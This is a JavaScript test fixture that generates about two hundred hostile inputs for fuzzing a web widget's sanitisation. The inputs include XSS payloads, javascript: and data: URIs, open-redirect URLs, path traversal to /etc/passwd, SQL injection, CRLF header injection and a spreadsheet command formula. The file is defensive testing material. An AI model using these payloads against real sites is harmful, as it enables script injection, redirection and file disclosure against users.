/**
 * Values that try to run, to lead away, to break out of texts, attributes, addresses or numbers: about two hundred, made
 * from a list of scripts and a list of ways around each.
 *
 * @returns {string[]}
 */
export function hostileValues() {
  const runs = ["document.title='x'", "alert(1)", "import('//example.org/x.js')", "top.location='//example.org'"];
  const values = runs.flatMap((run) => [
    `<script>${run}</script>`,
    `"><script>${run}</script>`,
    `"><svg onload=${run}>`,
    `'><img src=x onerror=${run}>`,
    `" onload="${run}`,
    `' onfocus='${run}' autofocus='`,
    `" srcdoc="<script>${run}</script>`,
    `</iframe><script>${run}</script>`,
    `</balise-widget><img src=x onerror=${run}>`,
    `</code></pre><script>${run}</script>`,
    `</textarea></title><script>${run}</script>`,
    `--><script>${run}</script>`,
    `]]><script>${run}</script>`,
    `&lt;script&gt;${run}&lt;/script&gt;`,
    `&quot;&gt;&lt;svg onload=${run}&gt;`,
    `&#34;><svg onload=${run}>`,
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    `java\tscript:${run}`,
    `\u0001javascript:${run}`,
    `javascript://%0a${run}`,
    `data:text/html,<script>${run}</script>`,
    `data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString("base64")}`,
    `vbscript:${run}`,
    `blob:${run}`,
    `{{constructor.constructor('${run}')()}}`,
    `\${${run}}`,
    `;${run};//`,
    `\`${run}\``,
    `x\u2028${run}`,
  ]);
  for (const scheme of ["https:", "http:", "", "ftp:", "file:", "blob:https:", "\t//", "https:/\\", "wss:"])
    for (const rest of [
      "//example.org",
      "//example.org/%2e%2e",
      "//user@example.org",
      "/\\example.org",
      "///example.org",
    ])
      values.push(scheme + rest);
  values.push(
    "\u0000",
    "%00",
    "%",
    "%zz",
    "\u202eexe.x",
    "\u2066a\u2069",
    "\ufeff",
    "\ud800",
    "é".repeat(1000),
    "F1702,".repeat(300),
    "9".repeat(400),
    "-0",
    "1e308",
    "NaN",
    "Infinity",
    "0x10",
    "null",
    "undefined",
    "__proto__",
    "constructor",
    "toString",
    "[object Object]",
    "../../../etc/passwd",
    "..%2f..%2fdata/manifest.json",
    "' OR 1=1 --",
    "\r\nSet-Cookie: a=b",
    "?romes=F1702",
    "&romes=F1702",
    "&amp;romes=F1702",
    "&lt",
    "&copy=1",
    "#<script>",
    "=cmd|' /C calc'!A0",
    "recherche-emploi/../data",
    "//recherche-emploi",
  );
  return values;
}
